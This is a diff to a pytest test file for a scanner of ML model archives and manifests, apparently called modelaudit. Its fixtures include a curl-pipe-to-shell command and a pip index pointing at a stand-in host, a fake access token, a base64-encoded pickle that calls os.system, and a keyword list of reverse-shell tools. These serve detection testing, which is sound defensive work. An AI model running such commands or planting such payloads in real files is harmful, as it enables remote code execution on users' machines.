@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import base64
 import io
 import json
+import random
+import string
 import tarfile
 import zipfile
 from pathlib import Path
@@ -12,7 +15,7 @@ from typing import Any
 import pytest
 
 import modelaudit
-from modelaudit import credentials, jinja_template, limits, loadertables
+from modelaudit import credentialkinds, credentials, jinja_template, limits, loadertables
 from modelaudit.manifestwords import WORDS
 
 
@@ -83,6 +86,17 @@ KEYS: list[tuple[dict[str, Any] | list[Any], str]] = [
     ({"cmd": "curl -s http://evil.example/x | sh"}, "MAN134"),
     ({"dependencies": [{"pip": ["--index-url http://evil.example/simple", "x"]}]}, "MAN135"),
 ]
+
+
+def test_members_that_hold_nothing_but_a_credential_are_looked_at() -> None:
+    body = random.Random(1).choices(string.ascii_letters + string.digits, k=30)
+    token = "ghp_" + "".join(body) + credentialkinds.checksum_of("".join(body).encode()).decode()
+    assert [rule[:3] for rule in rules(archive("a.json", json.dumps({"a": token}).encode(), 5), "m.zip")] == ["SEC"]
+
+
+def test_members_that_hold_nothing_but_encoded_code_are_looked_at() -> None:
+    encoded = base64.b64encode(b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.").decode()
+    assert "PKL101" in rules(archive("a.json", json.dumps({"a": encoded}).encode(), 5), "m.zip")
 
 
 @pytest.mark.parametrize(("value", "rule"), KEYS, ids=lambda part: part if isinstance(part, str) else None)
@@ -218,7 +232,8 @@ def test_aliases_are_counted_and_not_expanded() -> None:
 
 def test_limits_are_said(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(limits, "JSON_VALUES", 10)
-    assert rules(list(range(20))) == ["MAN102"]
+    assert rules([*range(20), "target"]) == ["MAN102"]
+    assert rules([*range(20)]) == [], "nothing in it could concern a loader"
     monkeypatch.setattr(limits, "JSON", 10)
     monkeypatch.setattr(limits, "YAML_EVENTS", 10)
     assert rules({"some": "more than ten bytes"}) == ["MAN102"]
@@ -401,9 +416,11 @@ def test_truncation_and_bit_flips_never_fail(name: str) -> None:
         assert whole <= {*rules(content + b"\n", name)}
 
 
-def test_every_key_has_a_word_that_large_archives_are_searched_for() -> None:
+def test_every_key_has_a_word_without_which_a_manifest_is_settled() -> None:
     keys = {key for name, table in vars(loadertables).items() if name in KEY_TABLES for key in table}
     assert len(keys) > 40
+    keys |= {keyword for kind in credentialkinds.kinds() for keyword in kind.keywords}
+    keys |= {"/dev/tcp", "/dev/udp", "nc ", "ncat", "netcat", "mkfifo", "base64", "powershell", "iex", "curl", "wget"}
     words = [word.decode().lower() for word in WORDS]
     assert [key for key in keys if not any(word in key.lower() for word in words)] == []
 
